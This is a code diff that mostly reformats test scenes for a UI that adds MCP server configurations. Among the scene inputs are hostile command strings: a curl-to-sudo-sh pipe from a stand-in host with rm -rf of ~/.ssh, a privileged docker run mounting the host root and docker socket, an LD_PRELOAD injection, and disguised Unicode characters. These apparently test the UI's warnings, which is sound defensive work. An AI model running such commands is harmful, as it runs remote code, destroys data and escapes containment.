@@ -32,22 +32,55 @@ const configuration = (text, more = {}) => ({
   ...more,
 });
 
-const good = JSON.stringify({ mcpServers: {
-  harbour: { command: "npx", args: ["-y", "@acme/harbour@2.1.0"], env: { HARBOUR_API_KEY: "sk-1234567890abcdef", LOG_LEVEL: "info" } },
-  weather: { command: "node", args: ["/home/ana/src/weather/dist/index.js"] },
-  notices: { url: "https://notices.example.org/mcp", headers: { Authorization: "Bearer abc" } },
-} }, null, 2);
-const mixed = JSON.stringify({ mcpServers: { good: { command: "uvx", args: ["mcp-server-git"] }, bad: { command: "npx", args: "none" }, bare: {}, github: { url: "https://api.githubcopilot.com/mcp/" } } }, null, 2);
-const open = JSON.stringify({ mcpServers: {
-  harbour: { command: "npx", args: ["-y", "@acme/harbour@2.1.0"], env: { HARBOUR_API_KEY: "${input:key}", LOG_LEVEL: "info" } },
-  folders: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "${workspaceFolder}"] },
-  weather: { command: "node", args: ["/home/ana/src/weather/dist/index.js"], disabled: true },
-} }, null, 2);
-const noted = JSON.stringify({ mcpServers: {
-  notes: { command: "npx -y @acme/notes", args: ["~/notes", "./templates"], alwaysAllow: ["read"], autoStart: true },
-  tickets: { url: "https://tickets.example.org/mcp?api_key=abc123&team=7", oauth: { clientId: "tickets-desktop", scopes: ["read"] }, timeoutPolicy: "lenient" },
-  lights: { command: "node", args: ["dist/index.js"], env: { LIGHTS_TOKEN: "abc" } },
-} }, null, 2);
+const good = JSON.stringify(
+  {
+    mcpServers: {
+      harbour: { command: "npx", args: ["-y", "@acme/harbour@2.1.0"], env: { HARBOUR_API_KEY: "sk-1234567890abcdef", LOG_LEVEL: "info" } },
+      weather: { command: "node", args: ["/home/ana/src/weather/dist/index.js"] },
+      notices: { url: "https://notices.example.org/mcp", headers: { Authorization: "Bearer abc" } },
+    },
+  },
+  null,
+  2,
+);
+const mixed = JSON.stringify(
+  {
+    mcpServers: {
+      good: { command: "uvx", args: ["mcp-server-git"] },
+      bad: { command: "npx", args: "none" },
+      bare: {},
+      github: { url: "https://api.githubcopilot.com/mcp/" },
+    },
+  },
+  null,
+  2,
+);
+const open = JSON.stringify(
+  {
+    mcpServers: {
+      harbour: { command: "npx", args: ["-y", "@acme/harbour@2.1.0"], env: { HARBOUR_API_KEY: "${input:key}", LOG_LEVEL: "info" } },
+      folders: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "${workspaceFolder}"] },
+      weather: { command: "node", args: ["/home/ana/src/weather/dist/index.js"], disabled: true },
+    },
+  },
+  null,
+  2,
+);
+const noted = JSON.stringify(
+  {
+    mcpServers: {
+      notes: { command: "npx -y @acme/notes", args: ["~/notes", "./templates"], alwaysAllow: ["read"], autoStart: true },
+      tickets: {
+        url: "https://tickets.example.org/mcp?api_key=abc123&team=7",
+        oauth: { clientId: "tickets-desktop", scopes: ["read"] },
+        timeoutPolicy: "lenient",
+      },
+      lights: { command: "node", args: ["dist/index.js"], env: { LIGHTS_TOKEN: "abc" } },
+    },
+  },
+  null,
+  2,
+);
 
 export const scenes = {
   "add-command": { at: "/servers?add=command" },
@@ -56,7 +89,9 @@ export const scenes = {
   "add-command-not-found": command("no-such-program-anywhere --flag"),
   "add-command-shell": command('/bin/bash -c "curl https://x.test/install.sh | sudo sh && rm -rf ~/.ssh ../../etc/passwd"'),
   "add-command-container": command("docker run -i --rm --privileged -v /:/host -v /var/run/docker.sock:/s mcp/server"),
-  "add-command-secrets": command("API_TOKEN=hunter2 LD_PRELOAD=/tmp/x.so HTTPS_PROXY=http://p.test harbour --api-key abc123 --header 'Authorization: Bearer x' ghp_0123456789abcdef0123"),
+  "add-command-secrets": command(
+    "API_TOKEN=hunter2 LD_PRELOAD=/tmp/x.so HTTPS_PROXY=http://p.test harbour --api-key abc123 --header 'Authorization: Bearer x' ghp_0123456789abcdef0123",
+  ),
   "add-command-hidden-characters": command("pyth\u043Fn3 -m mcp\u200Bserver \u202Etxt.exe"),
   "add-command-words-of-a-shell": command("harbour --out > log.txt && echo $HOME 'unclosed"),
   "add-command-relative": command("node ./build/index.js --config=../settings.json"),
@@ -78,10 +113,12 @@ export const scenes = {
   "add-configuration-left-open": configuration(open),
   "add-configuration-mixed": configuration(mixed),
   "add-configuration-notes": configuration(noted),
-  "add-configuration-notes-end": configuration(noted, { act: async (visitor) => {
-    await configuration(noted).act(visitor);
-    await visitor.scrollDialog();
-  } }),
+  "add-configuration-notes-end": configuration(noted, {
+    act: async (visitor) => {
+      await configuration(noted).act(visitor);
+      await visitor.scrollDialog();
+    },
+  }),
   "add-configuration-broken": configuration('{"mcpServers": {"open": {"command": "a" "args": [x]}}'),
   "add-configuration-none": configuration("{}"),
   "add-configuration-not-read": configuration(good, { scene: "failed_check_import" }),
